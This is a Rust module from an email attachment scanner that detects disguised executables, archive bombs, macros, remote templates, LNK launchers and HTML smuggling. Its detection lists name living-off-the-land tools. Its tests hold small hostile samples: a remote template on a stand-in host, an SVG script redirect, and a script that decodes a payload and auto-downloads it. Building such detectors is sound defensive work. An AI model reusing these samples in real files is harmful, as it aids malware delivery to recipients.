//! Attachments: what each file really is, what its name claims, and what it carries (macros,
//! remote templates, scripts, links), opening archives and disk images in memory within hard
//! bounds. Nothing is written to disk, executed or fetched.

use crate::filetype::{self, ext_class, extension, is_document_like_ext, sniff, ExtClass, Kind};
use crate::html;
use crate::ole;
use crate::util::{clip, defang, sha256_hex};
use crate::zip;
use serde::Serialize;

/// Bounds on opening archives.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ArchiveLimits {
    /// Deepest archive-in-archive nesting opened (the attachment itself is depth 0).
    pub max_depth: usize,
    /// Most entries listed per archive.
    pub max_entries: usize,
    /// Most entries opened per archive.
    pub max_entries_opened: usize,
    /// Most bytes inflated per entry.
    pub max_entry_bytes: usize,
    /// Most bytes inflated for a whole message.
    pub max_total_bytes: usize,
    /// Declared uncompressed/compressed ratio above which an archive is a bomb (with at least
    /// `bomb_min_bytes` declared).
    pub bomb_ratio: u64,
    pub bomb_min_bytes: u64,
}

impl Default for ArchiveLimits {
    fn default() -> Self {
        ArchiveLimits {
            max_depth: 3,
            max_entries: 2_000,
            max_entries_opened: 64,
            max_entry_bytes: 8 << 20,
            max_total_bytes: 64 << 20,
            bomb_ratio: 200,
            bomb_min_bytes: 50 << 20,
        }
    }
}

/// One file looked at: an attachment, or a file inside one.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct FileInfo {
    /// The name, with the archive path for inner files (`a.zip/b/c.lnk`).
    pub name: String,
    pub size: usize,
    pub sha256: String,
    /// What the content is.
    pub kind: &'static str,
    /// The declared MIME type (attachments) or empty (inner files).
    #[serde(skip_serializing_if = "String::is_empty")]
    pub declared_type: String,
    /// 0 for an attachment, 1 for a file in it, ...
    pub depth: usize,
    /// The content was cut at a limit (hash of the part read).
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub truncated: bool,
}

/// A finding about a file: the signal name and its evidence.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hit {
    pub signal: &'static str,
    pub evidence: String,
}

/// Everything learnt from a message's attachments.
#[derive(Default)]
pub struct Scan {
    pub files: Vec<FileInfo>,
    pub hits: Vec<Hit>,
    /// URLs found inside attachments (HTML, SVG, PDF, Office relationships).
    pub urls: Vec<String>,
    /// Archives and documents that are password-protected.
    pub encrypted: usize,
    pub archives: usize,
    pub inflated: usize,
    /// Optional content scanner (YARA), run on every file.
    #[allow(clippy::type_complexity)]
    pub scanner: Option<Box<dyn Fn(&[u8]) -> Vec<String> + Send + Sync>>,
}

impl Scan {
    fn hit(&mut self, signal: &'static str, evidence: impl Into<String>) {
        let evidence = evidence.into();
        if self.hits.len() < 200
            && !self
                .hits
                .iter()
                .any(|h| h.signal == signal && h.evidence == evidence)
        {
            self.hits.push(Hit { signal, evidence });
        }
    }

    /// Look at one file (recursively into archives, within `limits`).
    pub fn inspect(
        &mut self,
        name: &str,
        declared: &str,
        data: &[u8],
        depth: usize,
        truncated: bool,
        limits: &ArchiveLimits,
    ) {
        if self.files.len() >= 1_000 {
            return;
        }
        let kind = sniff(data);
        self.files.push(FileInfo {
            name: clip(name, 300),
            size: data.len(),
            sha256: sha256_hex(data),
            kind: kind.as_str(),
            declared_type: declared.to_string(),
            depth,
            truncated,
        });
        let base = name.rsplit('/').next().unwrap_or(name);
        let shown = clip(base, 120);
        self.name_checks(base, &shown);
        let ext = extension(base).unwrap_or_default();
        let class = ext_class(&ext);

        // Dangerous by what it claims to be, or by what it is.
        let dangerous_class = matches!(
            class,
            ExtClass::Executable
                | ExtClass::Script
                | ExtClass::Shortcut
                | ExtClass::DiskImage
                | ExtClass::Help
                | ExtClass::OneNote
        );
        if dangerous_class {
            self.hit(
                "dangerous_attachment",
                format!("{shown} ({})", class_words(class, &ext)),
            );
        }
        let dangerous_kind = matches!(
            kind,
            Kind::Pe
                | Kind::Elf
                | Kind::MachO
                | Kind::Lnk
                | Kind::Iso
                | Kind::Vhd
                | Kind::Vhdx
                | Kind::OneNote
                | Kind::Chm
        );
        if dangerous_kind && !dangerous_class {
            self.hit(
                "type_mismatch",
                format!(
                    "{shown} is named like a {} file but is a {}",
                    ext_or_none(&ext),
                    kind.as_str()
                ),
            );
            self.hit(
                "dangerous_attachment",
                format!("{shown} ({})", kind.as_str()),
            );
        } else if !ext.is_empty() {
            if let Some(false) = filetype::ext_fits_kind(&ext, kind) {
                let both_images = kind.is_image() && class == ExtClass::Image;
                let benign = both_images
                    || (kind == Kind::Text && matches!(class, ExtClass::Text | ExtClass::Other))
                    || (kind == Kind::Xml && class == ExtClass::Office);
                if !benign && depth == 0 {
                    self.hit(
                        "type_mismatch",
                        format!("{shown} is named .{ext} but is {}", article(kind.as_str())),
                    );
                }
            }
        }
        if depth == 0 && !declared.is_empty() {
            self.declared_checks(&shown, declared, kind);
        }

        if let Some(scan) = &self.scanner {
            for rule in scan(data) {
                self.hit("yara_match", format!("{shown}: rule {rule}"));
            }
        }

        match kind {
            Kind::Zip => self.zip(name, data, depth, limits),
            Kind::Cfb => self.cfb(&shown, data),
            Kind::Rtf => self.rtf(&shown, data),
            Kind::Pdf => self.pdf(&shown, data),
            Kind::Lnk => self.lnk(&shown, data),
            Kind::Iso => self.iso(name, data, depth, limits),
            Kind::Rar => self.rar(&shown, data),
            Kind::SevenZip => self.seven_zip(&shown, data),
            Kind::Gzip => self.gzip(name, data, depth, limits),
            Kind::Cab => {
                self.archives += 1;
                self.hit("archive_unopened", format!("{shown} (CAB)"));
            }
            Kind::Html | Kind::Svg => self.markup(&shown, data, kind, class),
            Kind::Xml | Kind::Text if matches!(class, ExtClass::Html | ExtClass::Svg) => {
                self.markup(&shown, data, kind, class)
            }
            _ => {}
        }
        if class == ExtClass::OfficeMacro && kind != Kind::Zip && kind != Kind::Cfb {
            self.hit(
                "macro_document",
                format!("{shown} (macro-enabled file type)"),
            );
        }
    }

    fn name_checks(&mut self, base: &str, shown: &str) {
        if base.chars().any(crate::domains::is_bidi_control) {
            let visible: String = base
                .chars()
                .filter(|c| !crate::domains::is_bidi_control(*c))
                .collect();
            self.hit(
                "rtl_override",
                format!("{:?} hides its real name {:?}", shown, clip(&visible, 120)),
            );
        }
        // invoice.pdf.exe, photo.jpg      .scr
        let trimmed = base.trim_end();
        if let Some(last_dot) = trimmed.rfind('.') {
            let stem = &trimmed[..last_dot];
            let last = trimmed[last_dot + 1..].to_ascii_lowercase();
            let padded = stem.ends_with("  ");
            if let Some(prev) = extension(stem.trim_end()) {
                let risky = matches!(
                    ext_class(&last),
                    ExtClass::Executable
                        | ExtClass::Script
                        | ExtClass::Shortcut
                        | ExtClass::DiskImage
                        | ExtClass::Help
                        | ExtClass::Html
                        | ExtClass::Svg
                        | ExtClass::OneNote
                        | ExtClass::Archive
                );
                if is_document_like_ext(&prev) && risky && prev != last {
                    self.hit(
                        "double_extension",
                        format!("{shown}: looks like .{prev} but is .{last}"),
                    );
                }
            } else if padded && ext_class(&last) != ExtClass::Other {
                self.hit(
                    "double_extension",
                    format!("{shown}: extension pushed out of sight with spaces"),
                );
            }
        }
    }

    fn declared_checks(&mut self, shown: &str, declared: &str, kind: Kind) {
        let expected: &[Kind] = match declared {
            "application/pdf" => &[Kind::Pdf],
            "image/png" | "image/jpeg" | "image/jpg" | "image/gif" | "image/bmp" | "image/webp" => {
                &[
                    Kind::Png,
                    Kind::Jpeg,
                    Kind::Gif,
                    Kind::Bmp,
                    Kind::Webp,
                    Kind::Tiff,
                    Kind::Ico,
                ]
            }
            "application/zip" | "application/x-zip-compressed" => &[Kind::Zip],
            _ => return,
        };
        if kind != Kind::Unknown && !expected.contains(&kind) {
            self.hit(
                "type_mismatch",
                format!(
                    "{shown} is declared {declared} but is {}",
                    article(kind.as_str())
                ),
            );
        }
    }

    fn zip(&mut self, name: &str, data: &[u8], depth: usize, limits: &ArchiveLimits) {
        let shown = clip(name.rsplit('/').next().unwrap_or(name), 120);
        let Some(listing) = zip::list(data, limits.max_entries) else {
            return;
        };
        let ooxml = listing
            .entries
            .iter()
            .any(|e| e.name == "[Content_Types].xml");
        if listing.overlapping {
            self.hit(
                "archive_bomb",
                format!("{shown}: entries overlap (zip bomb)"),
            );
        }
        let declared = listing.declared_uncompressed();
        let packed = listing.declared_compressed().max(1);
        if declared >= limits.bomb_min_bytes && declared / packed >= limits.bomb_ratio {
            self.hit(
                "archive_bomb",
                format!(
                    "{shown}: {} MB packed into {} KB (ratio {}:1)",
                    declared >> 20,
                    packed >> 10,
                    declared / packed
                ),
            );
        }
        if listing.declared_entries as usize > limits.max_entries {
            self.hit(
                "archive_bomb",
                format!("{shown}: {} entries", listing.declared_entries),
            );
        }
        if ooxml {
            self.ooxml(&shown, data, &listing);
            return;
        }
        self.archives += 1;
        if listing.any_encrypted() {
            self.encrypted += 1;
            let names: Vec<String> = listing
                .entries
                .iter()
                .filter(|e| e.encrypted)
                .take(3)
                .map(|e| clip(&e.name, 60))
                .collect();
            self.hit(
                "encrypted_archive",
                format!("{shown} (password-protected: {})", names.join(", ")),
            );
        }
        if depth >= limits.max_depth {
            self.hit(
                "archive_nesting",
                format!(
                    "{shown}: archives nested deeper than {} levels",
                    limits.max_depth
                ),
            );
            return;
        }
        let mut opened = 0;
        for e in listing.entries.iter().filter(|e| !e.is_dir) {
            let inner_name = format!("{name}/{}", e.name);
            if e.encrypted {
                // Names are readable even when contents are not.
                let base = e.name.rsplit(['/', '\\']).next().unwrap_or(&e.name);
                self.name_checks(base, &clip(base, 120));
                let ext = extension(base).unwrap_or_default();
                let class = ext_class(&ext);
                if matches!(
                    class,
                    ExtClass::Executable
                        | ExtClass::Script
                        | ExtClass::Shortcut
                        | ExtClass::DiskImage
                        | ExtClass::Help
                        | ExtClass::OneNote
                ) {
                    self.hit(
                        "dangerous_attachment",
                        format!(
                            "{} inside {shown} ({})",
                            clip(base, 80),
                            class_words(class, &ext)
                        ),
                    );
                }
                continue;
            }
            if opened >= limits.max_entries_opened {
                break;
            }
            let room = limits
                .max_total_bytes
                .saturating_sub(self.inflated)
                .min(limits.max_entry_bytes);
            if room == 0 {
                self.hit(
                    "archive_bomb",
                    format!(
                        "{shown}: more than {} MB inflated; stopped",
                        limits.max_total_bytes >> 20
                    ),
                );
                break;
            }
            opened += 1;
            match zip::read(data, e, room) {
                Ok((bytes, cut)) => {
                    self.inflated += bytes.len();
                    if cut && e.uncompressed_size <= room as u64 {
                        // It inflates to more than it declares.
                        self.hit(
                            "archive_bomb",
                            format!("{}: inflates past its declared size", clip(&e.name, 80)),
                        );
                    }
                    self.inspect(&inner_name, "", &bytes, depth + 1, cut, limits);
                }
                Err(_) => continue,
            }
        }
    }

    fn ooxml(&mut self, shown: &str, data: &[u8], listing: &zip::Listing) {
        for e in &listing.entries {
            let lower = e.name.to_ascii_lowercase();
            if lower.ends_with("vbaproject.bin") {
                self.hit(
                    "macro_document",
                    format!("{shown} carries a VBA project ({})", e.name),
                );
            }
            if lower.ends_with(".rels") && e.uncompressed_size < (1 << 20) {
                if let Ok((bytes, _)) = zip::read(data, e, 1 << 20) {
                    let text = String::from_utf8_lossy(&bytes);
                    self.relationships(shown, &text);
                }
            }
            if lower.contains("/embeddings/") && lower.ends_with(".bin") {
                if let Ok((bytes, _)) = zip::read(data, e, 4 << 20) {
                    if let Some(dir) = ole::directory(&bytes, 512) {
                        if dir.ole_package() {
                            self.hit(
                                "ole_package",
                                format!("{shown} embeds a package object ({})", e.name),
                            );
                        }
                    }
                }
            }
        }
    }

    fn relationships(&mut self, shown: &str, xml: &str) {
        for rel in xml.split("<Relationship ").skip(1).take(500) {
            let external =
                rel.contains("TargetMode=\"External\"") || rel.contains("TargetMode='External'");
            if !external {
                continue;
            }
            let target = attr(rel, "Target").unwrap_or_default();
            let ty = attr(rel, "Type").unwrap_or_default();
            let kind = ty.rsplit('/').next().unwrap_or("");
            match kind {
                "attachedTemplate" | "oleObject" | "frame" | "subDocument" | "externalLinkPath" => {
                    self.hit(
                        "remote_template",
                        format!("{shown} loads {kind} from {}", defang(&clip(&target, 200))),
                    );
                }
                "hyperlink" if self.urls.len() < 200 => self.urls.push(target),
                _ => {}
            }
        }
    }

    fn cfb(&mut self, shown: &str, data: &[u8]) {
        let Some(dir) = ole::directory(data, 4096) else {
            return;
        };
        if dir.has_macros() {
            self.hit("macro_document", format!("{shown} carries VBA macros"));
        }
        if dir.encrypted_package() {
            self.encrypted += 1;
            self.hit(
                "encrypted_document",
                format!("{shown} is a password-protected Office document"),
            );
        }
        if dir.ole_package() {
            self.hit("ole_package", format!("{shown} embeds a package object"));
        }
        if dir.msi {
            self.hit(
                "dangerous_attachment",
                format!("{shown} (Windows Installer package)"),
            );
        }
    }

    fn rtf(&mut self, shown: &str, data: &[u8]) {
        let head = &data[..data.len().min(8 << 20)];
        let has = |n: &[u8]| memchr::memmem::find(head, n).is_some();
        if has(b"\\objdata") || has(b"\\objupdate") || has(b"\\objautlink") {
            self.hit("rtf_objects", format!("{shown} embeds OLE objects"));
        }
        if let Some(p) = memchr::memmem::find(head, b"\\*\\template") {
            let tail = String::from_utf8_lossy(&head[p..head.len().min(p + 300)]).to_string();
            if tail.contains("http") || tail.contains("\\\\") {
                self.hit(
                    "remote_template",
                    format!(
                        "{shown} loads a template from {}",
                        defang(&clip(tail.trim_start_matches("\\*\\template").trim(), 120))
                    ),
                );
            }
        }
    }

    fn pdf(&mut self, shown: &str, data: &[u8]) {
        let head = &data[..data.len().min(16 << 20)];
        let has = |n: &[u8]| memchr::memmem::find(head, n).is_some();
        let mut active = Vec::new();
        if has(b"/JavaScript") || has(b"/JS ") || has(b"/JS(") || has(b"/JS<") {
            active.push("JavaScript");
        }
        if has(b"/Launch") {
            active.push("a launch action");
        }
        if has(b"/EmbeddedFile") {
            active.push("an embedded file");
        }
        if !active.is_empty() {
            self.hit(
                "pdf_active",
                format!("{shown} contains {}", active.join(", ")),
            );
        }
        if has(b"/Encrypt") {
            self.encrypted += 1;
        }
        // Links: `/URI (http...)` in uncompressed objects.
        let mut at = 0;
        while let Some(p) = memchr::memmem::find(&head[at..], b"/URI") {
            let start = at + p + 4;
            let tail = &head[start..head.len().min(start + 2048)];
            if let Some(open) = tail.iter().position(|&b| b == b'(') {
                if tail[..open].iter().all(|b| b.is_ascii_whitespace()) {
                    if let Some(close) = tail[open..].iter().position(|&b| b == b')') {
                        let url =
                            String::from_utf8_lossy(&tail[open + 1..open + close]).to_string();
                        if self.urls.len() < 200 {
                            self.urls.push(url);
                        }
                    }
                }
            }
            at = start;
            if self.urls.len() >= 200 {
                break;
            }
        }
    }

    fn lnk(&mut self, shown: &str, data: &[u8]) {
        // Command lines are stored as UTF-16LE strings; look for the usual launchers.
        let units: Vec<u16> = data[..data.len().min(1 << 20)]
            .chunks_exact(2)
            .map(|b| u16::from_le_bytes([b[0], b[1]]))
            .collect();
        let text = String::from_utf16_lossy(&units).to_ascii_lowercase();
        let ascii = String::from_utf8_lossy(&data[..data.len().min(1 << 20)]).to_ascii_lowercase();
        for tool in [
            "powershell",
            "cmd.exe",
            "mshta",
            "rundll32",
            "regsvr32",
            "wscript",
            "cscript",
            "certutil",
            "bitsadmin",
            "curl",
            "msiexec",
            "conhost",
        ] {
            if text.contains(tool) || ascii.contains(tool) {
                self.hit("lnk_command", format!("{shown} runs {tool}"));
            }
        }
    }

    fn iso(&mut self, name: &str, data: &[u8], depth: usize, limits: &ArchiveLimits) {
        self.archives += 1;
        let shown = clip(name.rsplit('/').next().unwrap_or(name), 120);
        const SECTOR: usize = 2048;
        let pvd = 16 * SECTOR;
        if data.get(pvd) != Some(&1) || data.get(pvd + 1..pvd + 6) != Some(b"CD001") {
            return;
        }
        let root = pvd + 156;
        let Some(rec) = data.get(root..root + 34) else {
            return;
        };
        let mut lba = u32::from_le_bytes([rec[2], rec[3], rec[4], rec[5]]) as usize;
        let mut len = u32::from_le_bytes([rec[10], rec[11], rec[12], rec[13]]) as usize;
        if lba <= 16 || lba.saturating_mul(SECTOR) >= data.len() {
            // A damaged or hand-made image without a root record: look for a sector of
            // directory records after the volume descriptors.
            match (17..64).find(|&s| {
                looks_like_dir_sector(data.get(s * SECTOR..(s + 1) * SECTOR).unwrap_or(&[]))
            }) {
                Some(s) => {
                    lba = s;
                    len = SECTOR;
                }
                None => return,
            }
        }
        let start = lba.saturating_mul(SECTOR);
        let Some(dir) = data.get(start..start.saturating_add(len.min(64 * SECTOR)).min(data.len()))
        else {
            return;
        };
        let mut at = 0;
        let mut files = 0;
        while at < dir.len() && files < limits.max_entries_opened {
            let rl = dir[at] as usize;
            if rl == 0 {
                // Records do not cross sectors: skip to the next one.
                at = (at / SECTOR + 1) * SECTOR;
                continue;
            }
            let Some(r) = dir.get(at..at + rl) else { break };
            at += rl;
            if r.len() < 34 {
                break;
            }
            let flags = r[25];
            let nlen = r[32] as usize;
            let Some(raw) = r.get(33..33 + nlen) else {
                continue;
            };
            if nlen == 1 && (raw[0] == 0 || raw[0] == 1) {
                continue; // . and ..
            }
            let fname = String::from_utf8_lossy(raw)
                .split(';')
                .next()
                .unwrap_or("")
                .to_string();
            files += 1;
            if flags & 2 != 0 {
                continue; // a subdirectory
            }
            let flba = u32::from_le_bytes([r[2], r[3], r[4], r[5]]) as usize;
            let flen = u32::from_le_bytes([r[10], r[11], r[12], r[13]]) as usize;
            let fs = flba.saturating_mul(SECTOR);
            let end = fs
                .saturating_add(flen.min(limits.max_entry_bytes))
                .min(data.len());
            let content = data.get(fs..end).unwrap_or(&[]);
            let inner = format!("{name}/{fname}");
            if depth >= limits.max_depth {
                self.hit(
                    "archive_nesting",
                    format!("{shown}: nested deeper than {} levels", limits.max_depth),
                );
                break;
            }
            self.inspect(&inner, "", content, depth + 1, flen > content.len(), limits);
        }
    }

    fn rar(&mut self, shown: &str, data: &[u8]) {
        self.archives += 1;
        let encrypted = if data.starts_with(b"Rar!\x1a\x07\x01\x00") {
            // RAR 5: an archive encryption header (type 4) right after the signature.
            rar5_header_type(&data[8..]) == Some(4)
        } else {
            // RAR 4: main header flag 0x80 (encrypted headers), or a file header flag 0x04.
            let main_flags = data.get(10..12).map(|b| u16::from_le_bytes([b[0], b[1]]));
            let main_size = data
                .get(12..14)
                .map(|b| u16::from_le_bytes([b[0], b[1]]) as usize);
            let mut enc = main_flags.is_some_and(|f| f & 0x80 != 0);
            if let Some(ms) = main_size {
                let fh = 7 + ms;
                if data.get(fh + 2) == Some(&0x74) {
                    if let Some(f) = data.get(fh + 3..fh + 5) {
                        enc |= u16::from_le_bytes([f[0], f[1]]) & 0x04 != 0;
                    }
                }
            }
            enc
        };
        if encrypted {
            self.encrypted += 1;
            self.hit(
                "encrypted_archive",
                format!("{shown} (password-protected RAR)"),
            );
        } else {
            self.hit("archive_unopened", format!("{shown} (RAR)"));
        }
    }

    fn seven_zip(&mut self, shown: &str, data: &[u8]) {
        self.archives += 1;
        // The AES-256 coder id (06 F1 07 01) in the (end) header means encryption.
        let tail = &data[data.len().saturating_sub(64 << 10)..];
        if memchr::memmem::find(tail, &[0x06, 0xF1, 0x07, 0x01]).is_some() {
            self.encrypted += 1;
            self.hit(
                "encrypted_archive",
                format!("{shown} (password-protected 7-Zip)"),
            );
        } else {
            self.hit("archive_unopened", format!("{shown} (7-Zip)"));
        }
    }

    fn gzip(&mut self, name: &str, data: &[u8], depth: usize, limits: &ArchiveLimits) {
        use std::io::Read;
        self.archives += 1;
        if depth >= limits.max_depth {
            return;
        }
        let room = limits
            .max_total_bytes
            .saturating_sub(self.inflated)
            .min(limits.max_entry_bytes);
        let mut out = Vec::new();
        let _ = flate2::read::GzDecoder::new(data)
            .take(room as u64 + 1)
            .read_to_end(&mut out);
        let cut = out.len() > room;
        out.truncate(room);
        self.inflated += out.len();
        let inner = name
            .strip_suffix(".gz")
            .map(str::to_string)
            .unwrap_or_else(|| format!("{name}/content"));
        if !out.is_empty() {
            self.inspect(&inner, "", &out, depth + 1, cut, limits);
        }
    }

    fn markup(&mut self, shown: &str, data: &[u8], kind: Kind, class: ExtClass) {
        let text = crate::util::decode_charset(&data[..data.len().min(html::MAX_HTML_BYTES)], "");
        let facts = html::analyze_html(&text);
        let svg = kind == Kind::Svg || class == ExtClass::Svg;
        if svg {
            let lower = text.to_ascii_lowercase();
            if lower.contains("<script")
                || facts.scripts.contains('(')
                || lower.contains("javascript:")
            {
                self.hit(
                    "svg_script",
                    format!("{shown} is an image that runs script"),
                );
            }
            if lower.contains("<foreignobject") && (facts.forms > 0 || !facts.links.is_empty()) {
                self.hit("svg_script", format!("{shown} embeds a web page"));
            }
        } else {
            self.hit("html_attachment", shown.to_string());
        }
        if let Some(why) = smuggling(&facts.scripts, &text) {
            self.hit("html_smuggling", format!("{shown}: {why}"));
        }
        if facts.password_inputs > 0 {
            self.hit("credential_form", format!("{shown} asks for a password"));
        }
        for l in facts.links {
            if self.urls.len() < 200 {
                self.urls.push(l.url);
            }
        }
    }
}

/// An ISO 9660 sector that starts with a plausible directory record naming a file (`NAME;1`).
fn looks_like_dir_sector(sec: &[u8]) -> bool {
    let Some(&len) = sec.first() else {
        return false;
    };
    let len = len as usize;
    if !(34..=255).contains(&len) || sec.len() < len {
        return false;
    }
    let nlen = sec[32] as usize;
    nlen >= 1 && 33 + nlen <= len && {
        let name = &sec[33..33 + nlen];
        name.windows(2).any(|w| w == b";1") || (nlen == 1 && name[0] <= 1)
    }
}

fn rar5_header_type(d: &[u8]) -> Option<u64> {
    // CRC32, then header size and header type as variable-length integers.
    let mut i = 4;
    let mut vint = || -> Option<u64> {
        let mut v = 0u64;
        for shift in (0..63).step_by(7) {
            let b = *d.get(i)?;
            i += 1;
            v |= u64::from(b & 0x7f) << shift;
            if b & 0x80 == 0 {
                return Some(v);
            }
        }
        None
    };
    let _size = vint()?;
    vint()
}

fn attr(s: &str, name: &str) -> Option<String> {
    for q in ['"', '\''] {
        let key = format!("{name}={q}");
        if let Some(p) = s.find(&key) {
            let rest = &s[p + key.len()..];
            let end = rest.find(q)?;
            return Some(crate::html::decode_entities(&rest[..end]));
        }
    }
    None
}

/// HTML smuggling: script that decodes a payload (`atob`, char codes) and hands it to the
/// browser as a file (`Blob` + `createObjectURL` / `msSaveOrOpenBlob` / a `download` link).
pub fn smuggling(scripts: &str, html: &str) -> Option<String> {
    if scripts.is_empty() && !html.contains("data:application") {
        return None;
    }
    let s = scripts;
    let decode = s.contains("atob(")
        || s.contains("fromCharCode")
        || s.contains("base64")
        || s.contains("Uint8Array");
    let blob = s.contains("Blob(") || s.contains("new Blob") || s.contains("createObjectURL");
    let save = s.contains(".download")
        || s.contains("download=")
        || s.contains("msSaveOrOpenBlob")
        || s.contains("msSaveBlob")
        || s.contains("createObjectURL")
        || s.contains(".click()");
    if decode && blob && save {
        return Some("decodes a file in script and makes the browser save it".into());
    }
    let lower = html.to_ascii_lowercase();
    if let Some(p) = lower.find("data:application/") {
        let window = &lower[p.saturating_sub(200)..p];
        if window.contains("download") {
            return Some("a download link carries a whole file inline".into());
        }
    }
    None
}

fn class_words(class: ExtClass, ext: &str) -> String {
    let what = match class {
        ExtClass::Executable if ext == "xll" => "Excel add-in (code)",
        ExtClass::Executable if ext == "msi" || ext == "msix" => "installer",
        ExtClass::Executable => "program",
        ExtClass::Script if ext == "hta" => "HTML application",
        ExtClass::Script => "script",
        ExtClass::Shortcut => "shortcut",
        ExtClass::DiskImage => "disk image",
        ExtClass::Help => "compiled help file",
        ExtClass::OneNote => "OneNote file",
        _ => "file",
    };
    format!(".{ext} {what}")
}

fn ext_or_none(ext: &str) -> String {
    if ext.is_empty() {
        "extension-less".into()
    } else {
        format!(".{ext}")
    }
}

fn article(s: &str) -> String {
    let vowel = s.chars().next().is_some_and(|c| "AEIOUaeiou".contains(c));
    if vowel {
        format!("an {s}")
    } else {
        format!("a {s}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::zip::build::{zip, Spec};

    fn scan(name: &str, data: &[u8]) -> Scan {
        let mut s = Scan::default();
        s.inspect(
            name,
            "application/octet-stream",
            data,
            0,
            false,
            &ArchiveLimits::default(),
        );
        s
    }

    fn signals(s: &Scan) -> Vec<&'static str> {
        s.hits.iter().map(|h| h.signal).collect()
    }

    #[test]
    fn names_and_types() {
        let s = scan("invoice.pdf.exe", b"MZ\x90\x00");
        assert!(signals(&s).contains(&"double_extension"));
        assert!(signals(&s).contains(&"dangerous_attachment"));
        let s = scan("report\u{202E}fdp.exe", b"x");
        assert!(signals(&s).contains(&"rtl_override"));
        let s = scan("scan.pdf", b"MZ\x90\x00\x03");
        assert!(signals(&s).contains(&"type_mismatch"));
        let s = scan("photo.png", b"\x89PNG\r\n\x1a\n");
        assert!(s.hits.is_empty());
        assert_eq!(s.files[0].sha256.len(), 64);
    }

    #[test]
    fn archives_and_documents() {
        let inner = zip(&[Spec {
            name: "run.lnk",
            data: &[
                0x4C, 0, 0, 0, 1, 0x14, 2, 0, b'p', 0, b'o', 0, b'w', 0, b'e', 0, b'r', 0, b's', 0,
                b'h', 0, b'e', 0, b'l', 0, b'l', 0,
            ],
            deflate: true,
            encrypted: false,
        }]);
        let outer = zip(&[Spec {
            name: "docs.zip",
            data: &inner,
            deflate: false,
            encrypted: false,
        }]);
        let s = scan("outer.zip", &outer);
        let sig = signals(&s);
        assert!(sig.contains(&"dangerous_attachment"), "{sig:?}");
        assert!(sig.contains(&"lnk_command"), "{sig:?}");
        assert!(s
            .files
            .iter()
            .any(|f| f.name == "outer.zip/docs.zip/run.lnk" && f.depth == 2));

        let enc = zip(&[Spec {
            name: "a.js",
            data: b"x",
            deflate: false,
            encrypted: true,
        }]);
        let s = scan("a.zip", &enc);
        assert!(signals(&s).contains(&"encrypted_archive"));
        assert!(signals(&s).contains(&"dangerous_attachment"));

        let docm = zip(&[
            Spec { name: "[Content_Types].xml", data: b"<Types/>", deflate: true, encrypted: false },
            Spec { name: "word/vbaProject.bin", data: b"x", deflate: true, encrypted: false },
            Spec { name: "word/_rels/settings.xml.rels", data: br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#, deflate: true, encrypted: false },
        ]);
        let s = scan("report.docx", &docm);
        let sig = signals(&s);
        assert!(
            sig.contains(&"macro_document") && sig.contains(&"remote_template"),
            "{sig:?}"
        );
        assert!(s.hits.iter().any(|h| h.evidence.contains("evil[.]example")));

        let cfb = crate::ole::build::cfb(&["Root Entry", "Macros", "WordDocument"], None);
        assert!(signals(&scan("a.doc", &cfb)).contains(&"macro_document"));
    }

    #[test]
    fn markup_attachments() {
        let svg = br#"<svg xmlns="http://www.w3.org/2000/svg"><script>location='https://x.example'</script></svg>"#;
        assert!(signals(&scan("img.svg", svg)).contains(&"svg_script"));
        let smug = br#"<html><body><script>var d=atob("TVqQ");var b=new Blob([d]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.iso';a.click();</script></body></html>"#;
        let sig = signals(&scan("doc.html", smug));
        assert!(
            sig.contains(&"html_smuggling") && sig.contains(&"html_attachment"),
            "{sig:?}"
        );
    }
}
